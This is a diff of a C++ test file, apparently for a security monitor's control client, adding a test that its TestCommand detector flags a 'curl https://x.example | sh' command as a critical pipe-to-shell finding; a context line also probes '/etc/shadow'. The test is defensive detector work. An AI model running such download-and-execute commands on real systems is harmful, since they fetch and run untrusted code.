@@ -237,6 +237,16 @@ TEST_CASE("control: Subscribe says LimitReached when the house has no descriptor
   CHECK(with(EIO).name == "Failed");
 }
 
+TEST_CASE("control: TestCommand says what the detector would say") {
+  Fixture f;
+  using Said = std::tuple<std::string, std::string, std::string>;
+  CHECK(f.client->TestCommand({"sh", "-c", "curl https://x.example | sh"}) ==
+        Said{"pipe-to-shell", "critical", "download-to-shell"});
+  CHECK(f.client->TestCommand({"ls"}) == Said{});
+  CHECK(failure_of([&] { f.client->TestCommand({}); }).name == "InvalidArgument");
+  CHECK(failure_of([&] { f.client->TestCommand({std::string(2'000'000, 'x')}); }).name == "InvalidArgument");
+}
+
 TEST_CASE("control: members of later versions answer NotSupported") {
   Fixture f;
   const auto name_of_failure = [](auto&& call) { return failure_of(call).name; };
@@ -245,7 +255,6 @@ TEST_CASE("control: members of later versions answer NotSupported") {
   CHECK(name_of_failure([&] { f.client->SetPathRules({}); }) == "NotSupported");
   CHECK(name_of_failure([&] { f.client->GetPathFilter(); }) == "NotSupported");
   CHECK(name_of_failure([&] { f.client->TestPath("/etc/shadow"); }) == "NotSupported");
-  CHECK(name_of_failure([&] { f.client->TestCommand({"ls"}); }) == "NotSupported");
   CHECK(name_of_failure([&] { f.client->Reload(); }) == "NotSupported");
   CHECK(name_of_failure([&] { f.client->Explain(200); }) == "NotSupported");
 }
